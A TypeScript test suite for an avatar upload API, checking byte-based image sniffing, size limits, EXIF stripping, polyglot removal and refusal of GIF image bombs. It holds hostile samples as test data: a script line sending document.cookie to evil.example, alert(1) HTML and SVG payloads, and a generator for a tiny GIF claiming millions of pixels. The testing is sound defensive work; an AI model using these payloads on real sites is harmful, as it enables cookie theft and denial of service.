/**
 * Avatar upload and serving over real HTTP: images recognised by their bytes, disguised files refused,
 * the 5 MB limit (this route's own, while the rest of the API keeps 1 MB), the cached image URL, and
 * every image re-encoded: no EXIF (GPS) and no polyglot bytes survive the upload. Image bombs (issue 22
 * #8): pixels × frames checked from the headers, only an animation's first frame decoded, and image work
 * bounded per process.
 */
import { createHash } from 'node:crypto';

import sharp from 'sharp';
import { beforeAll, expect, it } from 'vitest';

import { IMAGE_BUSY, imageWork } from '../../../server/auth/avatars/image-work';
import {
  AVATAR_MESSAGES,
  MAX_INPUT_PIXELS,
  sniffImage,
} from '../../../server/auth/avatars/service';
import type { SignedInUser } from '../harness';
import { describeServer, isFastApiError, useTestServer } from '../harness';

const h = useTestServer();
const UPLOAD = '/api/v1/auth/profile/upload-avatar';
const MB = 1024 * 1024;

// The smallest real images: a 1×1 PNG and GIF; a JPEG header and a WebP (VP8L) header, which only
// sniff as images (they do not decode).
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, ...Buffer.from('JFIF\0'), 0x01]);
const WEBP = Buffer.concat([
  Buffer.from('RIFF'),
  Buffer.from([0x1a, 0, 0, 0]),
  Buffer.from('WEBPVP8L'),
  Buffer.from([0x0d, 0, 0, 0, 0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe]),
]);

/** Real, decodable JPEG and WebP images (made with sharp). */
const real = { jpeg: Buffer.alloc(0), webp: Buffer.alloc(0) };
/** A phone photo: EXIF naming the camera and the GPS position where it was taken. */
let phonePhoto = Buffer.alloc(0);
/** An animated GIF of many different frames, made with sharp. */
const FRAMES = 300;
let manyFrames = Buffer.alloc(0);
beforeAll(async () => {
  manyFrames = await sharp({
    create: {
      width: 64,
      height: 64 * FRAMES,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
      pageHeight: 64,
    },
  })
    .gif({ effort: 1, colours: 4, dither: 0 })
    .toBuffer();
  const blank = () =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } });
  real.jpeg = await blank().jpeg().toBuffer();
  real.webp = await blank().webp().toBuffer();
  phonePhoto = await blank()
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Snap 12' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 2650/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 3960/100',
      },
    })
    .toBuffer();
});

function form(bytes: Buffer, name = 'avatar.png', type = 'image/png', field = 'file') {
  const data = new FormData();
  data.append(field, new Blob([new Uint8Array(bytes)], { type }), name);
  return data;
}

const upload = (user: SignedInUser, body: BodyInit, headers: Record<string, string> = {}) =>
  h.post(UPLOAD, undefined, { token: user.access_token, raw: body, headers });

/**
 * A GIF of `frames` frames of `side` × `side` pixels, written byte by byte: each frame says its size
 * and carries one pixel of data, so a few bytes claim any number of pixels.
 */
function claimedGif(side: number, frames: number): Buffer {
  const u16 = (n: number) => [n & 255, n >> 8];
  const frame = [
    ...[0x21, 0xf9, 4, 0, 10, 0, 0, 0], // graphic control: 0.1 s a frame
    ...[0x2c, 0, 0, 0, 0, ...u16(side), ...u16(side), 0x80], // image descriptor, 2-colour table
    ...[0, 0, 0, 255, 255, 255],
    ...[2, 2, 0x44, 0x01, 0], // LZW data of one pixel
  ];
  return Buffer.from([
    ...Buffer.from('GIF89a'),
    ...u16(side),
    ...u16(side),
    0,
    0,
    0,
    ...[0x21, 0xff, 11, ...Buffer.from('NETSCAPE2.0'), 3, 1, 0, 0, 0], // loop forever
    ...Array.from({ length: frames }, () => frame).flat(),
    0x3b,
  ]);
}

describeServer('avatar upload', () => {
  it('recognises PNG, JPEG, WebP and GIF by their bytes, and nothing else', () => {
    expect(sniffImage(PNG)).toBe('image/png');
    expect(sniffImage(JPEG)).toBe('image/jpeg');
    expect(sniffImage(WEBP)).toBe('image/webp');
    expect(sniffImage(GIF)).toBe('image/gif');
    for (const text of [
      '<html><body>hi</body></html>',
      '<svg xmlns="http://www.w3.org/2000/svg"/>',
      'hello',
      '',
      'RIFF....WAVE',
      'GIF8',
    ]) {
      expect(sniffImage(Buffer.from(text)), text).toBeNull();
    }
    expect(sniffImage(PNG.subarray(0, 8))).toBeNull();
  });

  it('stores an image and serves it under /api/v1/, cached for good under its hash', async () => {
    const user = await h.signedInUser();
    const reply = await upload(user, form(PNG, 'me.gif', 'image/gif'));
    expect(reply.status, reply.text).toBe(200);
    const path = reply.body.user.profile.avatar_url as string;
    const etag = path.split('/').at(-1)!;
    expect(path).toBe(`/api/v1/auth/avatars/${user.user.id}/${etag}`);
    expect(reply.body.user).toMatchObject({ ...user.user, profile: { avatar_url: path } });
    const me = await h.get('/api/v1/auth/me', { token: user.access_token });
    expect(me.body.user.profile.avatar_url).toBe(path);

    // Served to <img> without a token, as the bytes say (not as the upload claimed).
    const image = await fetch(h.url + path);
    expect(image.status).toBe(200);
    const served = Buffer.from(await image.arrayBuffer());
    // Re-encoded: the same 1×1 PNG, named by the hash of what is served.
    expect(createHash('sha256').update(served).digest('hex')).toBe(etag);
    expect(await sharp(served).metadata()).toMatchObject({ format: 'png', width: 1, height: 1 });
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('x-content-type-options')).toBe('nosniff');
    expect(image.headers.get('content-disposition')).toBe('inline');
    expect(image.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(image.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(image.headers.get('etag')).toBe(`"${etag}"`);
    const again = await fetch(h.url + path, { headers: { 'if-none-match': `"${etag}"` } });
    expect(again.status).toBe(304);
    // The rest of the API is still never cached.
    expect(me.headers.get('cache-control')).toBe('no-store');
  });

  it('accepts JPEG, WebP and GIF too; a new upload replaces the old one and its URL', async () => {
    const user = await h.signedInUser();
    const urls: string[] = [];
    for (const [bytes, type] of [
      [real.jpeg, 'image/jpeg'],
      [real.webp, 'image/webp'],
      [GIF, 'image/gif'],
    ] as const) {
      const reply = await upload(user, form(bytes, 'x.bin', 'application/octet-stream'));
      expect(reply.status, reply.text).toBe(200);
      const url = reply.body.user.profile.avatar_url;
      const image = await fetch(h.url + url);
      expect(image.headers.get('content-type')).toBe(type);
      urls.push(url);
    }
    expect(new Set(urls).size).toBe(3);
    expect((await fetch(h.url + urls[0])).status).toBe(404);
    expect((await fetch(h.url + urls[2])).status).toBe(200);
  });

  it('strips EXIF (the GPS position of a phone photo) and keeps its size and orientation', async () => {
    expect((await sharp(phonePhoto).metadata()).exif).toBeDefined();
    expect(phonePhoto.includes('PhoneMaker')).toBe(true);
    const user = await h.signedInUser();
    const reply = await upload(user, form(phonePhoto, 'IMG_0042.jpg', 'image/jpeg'));
    expect(reply.status, reply.text).toBe(200);
    const served = Buffer.from(
      await (await fetch(h.url + reply.body.user.profile.avatar_url)).arrayBuffer(),
    );
    const meta = await sharp(served).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 40, height: 30 });
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(served.includes('PhoneMaker')).toBe(false);
    expect(served.includes('Exif')).toBe(false);
  });

  it('drops whatever a polyglot carries after the image (a script, a zip)', async () => {
    const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
    const zip = Buffer.concat([
      Buffer.from('PK\x03\x04'),
      Buffer.from('payload.js'),
      Buffer.alloc(64, 7),
    ]);
    const user = await h.signedInUser();
    for (const [image, type] of [
      [real.jpeg, 'image/jpeg'],
      [PNG, 'image/png'],
      [GIF, 'image/gif'],
    ] as const) {
      const polyglot = Buffer.concat([image, Buffer.from(script), zip]);
      const reply = await upload(user, form(polyglot, 'x.jpg', type));
      expect(reply.status, reply.text).toBe(200);
      const served = Buffer.from(
        await (await fetch(h.url + reply.body.user.profile.avatar_url)).arrayBuffer(),
      );
      expect(served.includes('<script>'), type).toBe(false);
      expect(served.includes('PK\x03\x04'), type).toBe(false);
      expect(served.includes('payload.js'), type).toBe(false);
      expect((await sharp(served).metadata()).format).toBe(type.slice('image/'.length));
    }
    // A JPEG ends at its end-of-image marker now.
    const last = await upload(user, form(Buffer.concat([real.jpeg, Buffer.from(script)])));
    const bytes = Buffer.from(
      await (await fetch(h.url + last.body.user.profile.avatar_url)).arrayBuffer(),
    );
    expect([...bytes.subarray(-2)]).toEqual([0xff, 0xd9]);
  });

  it('refuses an image that does not decode (the right magic bytes, nothing behind them)', async () => {
    const user = await h.signedInUser();
    for (const bytes of [JPEG, WEBP, Buffer.concat([PNG.subarray(0, 40), Buffer.alloc(20)])]) {
      const reply = await upload(user, form(bytes));
      expect(reply.status).toBe(415);
      expect(reply.body).toEqual({ detail: AVATAR_MESSAGES.notAnImage });
    }
  });

  it('refuses files that only claim to be images with 415 {detail}, and keeps the old avatar', async () => {
    const user = await h.signedInUser();
    const first = await upload(user, form(PNG));
    const disguised = [
      '<!doctype html><html><script>alert(1)</script></html>',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'just some text',
      '',
    ];
    for (const content of disguised) {
      const reply = await upload(user, form(Buffer.from(content), 'avatar.png', 'image/png'));
      expect(reply.status, content).toBe(415);
      expect(reply.body).toEqual({ detail: AVATAR_MESSAGES.notAnImage });
    }
    const me = await h.get('/api/v1/auth/me', { token: user.access_token });
    expect(me.body.user.profile.avatar_url).toBe(first.body.user.profile.avatar_url);
  });

  it('takes up to 5 MB here (the rest of the API keeps 1 MB), and answers 413 {detail} above', async () => {
    const user = await h.signedInUser();
    const big = Buffer.alloc(5 * MB - 1024);
    PNG.copy(big);
    const ok = await upload(user, form(big));
    expect(ok.status, ok.text).toBe(200);
    // Just over 5 MB: within the request's allowance for multipart overhead, refused by size.
    const over = Buffer.alloc(5 * MB + 1);
    PNG.copy(over);
    const justOver = await upload(user, form(over));
    expect(justOver.status).toBe(413);
    expect(justOver.body).toEqual({ detail: AVATAR_MESSAGES.tooLarge });
    // 6 MB: refused before it is read, with a length or streamed without one.
    const six = form(Buffer.alloc(6 * MB));
    const refused = await upload(user, six);
    expect(refused.status).toBe(413);
    expect(refused.body).toEqual({ detail: AVATAR_MESSAGES.tooLarge });
    const encoded = new Response(form(Buffer.alloc(6 * MB)));
    const stream = await fetch(h.url + UPLOAD, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${user.access_token}`,
        'content-type': encoded.headers.get('content-type')!,
      },
      body: encoded.body,
      duplex: 'half',
    } as RequestInit);
    expect(stream.status).toBe(413);
    expect(isFastApiError(await stream.json())).toBe(true);
  });

  it('answers 422 for a missing or non-file field, 415 for JSON, 401 without a token', async () => {
    const user = await h.signedInUser();
    const missing = await upload(user, form(PNG, 'a.png', 'image/png', 'picture'));
    expect(missing.status).toBe(422);
    expect(missing.body.detail).toContainEqual({
      loc: ['body', 'file'],
      msg: 'Field required',
      type: 'missing',
    });
    expect(missing.body.detail).toContainEqual(
      expect.objectContaining({ loc: ['body', 'picture'], type: 'extra_forbidden' }),
    );
    const text = new FormData();
    text.append('file', 'not a file');
    const notFile = await upload(user, text);
    expect(notFile.status).toBe(422);
    expect(notFile.body.detail[0].loc).toEqual(['body', 'file']);
    const json = await h.post(UPLOAD, { file: 'x' }, { token: user.access_token });
    expect(json.status).toBe(415);
    const anonymous = await h.post(UPLOAD, undefined, { raw: form(PNG) });
    expect(anonymous.status).toBe(401);
    // A JSON body over 1 MB elsewhere is still refused.
    const elsewhere = await h.put('/api/v1/auth/profile', undefined, {
      token: user.access_token,
      raw: JSON.stringify({ bio: 'x'.repeat(2 * MB) }),
      headers: { 'content-type': 'application/json' },
    });
    expect(elsewhere.status).toBe(413);
  });

  it('stores only the first frame of a many-frame GIF (the rest is never decoded)', async () => {
    expect((await sharp(manyFrames).metadata()).pages).toBe(FRAMES);
    const user = await h.signedInUser();
    const reply = await upload(user, form(manyFrames, 'party.gif', 'image/gif'));
    expect(reply.status, reply.text).toBe(200);
    const served = Buffer.from(
      await (await fetch(h.url + reply.body.user.profile.avatar_url)).arrayBuffer(),
    );
    const meta = await sharp(served).metadata();
    expect(meta).toMatchObject({ format: 'gif', width: 64, height: 64 });
    expect(meta.pages ?? 1).toBe(1);
  });

  it('refuses by pixels × frames from the headers with 413 {detail}; a smaller one is its first frame', async () => {
    const user = await h.signedInUser();
    const first = await upload(user, form(PNG));
    // 300 frames of 500 × 500 in 9 kB: 75 million pixels, over the budget counted over every frame.
    const bomb = claimedGif(500, 300);
    expect(bomb.length).toBeLessThan(10_000);
    expect(500 * 500 * 300).toBeGreaterThan(MAX_INPUT_PIXELS);
    const refused = await upload(user, form(bomb, 'bomb.gif', 'image/gif'));
    expect(refused.status).toBe(413);
    expect(refused.body).toEqual({ detail: AVATAR_MESSAGES.tooManyPixels });
    // Under the budget (40 million pixels over 1,000 frames): taken, as its first frame alone.
    const under = await upload(user, form(claimedGif(200, 1000), 'many.gif', 'image/gif'));
    expect(under.status, under.text).toBe(200);
    const served = Buffer.from(
      await (await fetch(h.url + under.body.user.profile.avatar_url)).arrayBuffer(),
    );
    expect((await sharp(served).metadata()).pages ?? 1).toBe(1);
    const me = await h.get('/api/v1/auth/me', { token: user.access_token });
    expect(me.body.user.profile.avatar_url).not.toBe(first.body.user.profile.avatar_url);
  });

  it('does at most two images at once; a burst past the queue gets 503 {detail}', async () => {
    const users = await Promise.all(Array.from({ length: 4 }, () => h.signedInUser()));
    const replies = await Promise.all(
      Array.from({ length: 16 }, (_, i) =>
        upload(users[i % users.length]!, form(manyFrames, 'party.gif', 'image/gif')),
      ),
    );
    for (const reply of replies) {
      if (reply.status === 200) continue;
      expect(reply.status).toBe(503);
      expect(reply.body).toEqual({ detail: IMAGE_BUSY });
      expect(Number(reply.headers.get('retry-after'))).toBeGreaterThan(0);
    }
    expect(replies.filter((r) => r.status === 200).length).toBeGreaterThanOrEqual(2);
    expect(imageWork.peak).toBeGreaterThan(0);
    expect(imageWork.peak).toBeLessThanOrEqual(2);
    expect(imageWork.active).toBe(0);
  });

  it('answers 404 for an avatar that does not exist, 422 for a malformed path', async () => {
    const user = await h.signedInUser();
    const unknown = await h.get(`/api/v1/auth/avatars/${user.user.id}/${'0'.repeat(64)}`);
    expect(unknown.status).toBe(404);
    expect(unknown.body).toEqual({ detail: 'Not Found' });
    const malformed = await h.get('/api/v1/auth/avatars/not-a-uuid/xyz');
    expect(malformed.status).toBe(422);
  });
});
